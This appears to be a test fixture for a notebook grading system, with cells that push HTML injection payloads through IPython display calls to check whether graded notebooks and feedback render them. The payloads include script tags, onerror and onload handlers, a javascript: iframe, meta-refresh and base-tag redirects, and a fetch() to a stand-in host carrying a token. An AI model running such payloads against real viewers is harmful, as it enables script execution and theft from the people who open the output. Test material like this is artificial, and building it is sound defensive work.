# Displays HTML with scripts, handlers, frames and forms, for whoever opens the graded notebook or the feedback.
# earns: 4
# shows: DISPLAYED
# shows: is \["<img src=x onerror=alert\('@TOKEN@'\)>"

# %% attack cell first
from IPython.display import HTML, IFrame, display

display(HTML("<script>fetch('http://x.example/@TOKEN@')</script><img src=x onerror=\"alert('@TOKEN@')\">"))
display(HTML("<svg onload=alert('@TOKEN@')><iframe srcdoc='<script>@TOKEN@</script>'></iframe><form action='@TOKEN@'>"))
display(
    HTML(
        "<base href='//x.example/@TOKEN@/'><meta http-equiv=refresh content='0;url=//@TOKEN@'><style>@import '@TOKEN@'</style>"
    )
)
display(IFrame("javascript:alert('@TOKEN@')", 10, 10))
for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/xhtml+xml", "text/x-html"):
    display({kind: f"<script>alert('@TOKEN@ {kind}')</script>", "text/plain": "<script>@TOKEN@</script>"}, raw=True)
print("DISPLAYED")


# %% attack answer chunked
class Page(list):
    def _repr_html_(self):
        return "<script>@TOKEN@</script>"

    def __repr__(self):
        return "<script>@TOKEN@</script>"


def chunked(iterable, size):
    return iter([["<img src=x onerror=alert('@TOKEN@')>"] * 3])


# %% attack traces
found = "; ".join(f"page {number} runs it" for number, page in enumerate(pages()) if "@TOKEN@" in live(page))

# %% twin cell first
from IPython.display import HTML, display

display(HTML("<table><tr><th>book</th><td>Dune &amp; Emma</td></tr></table>"))
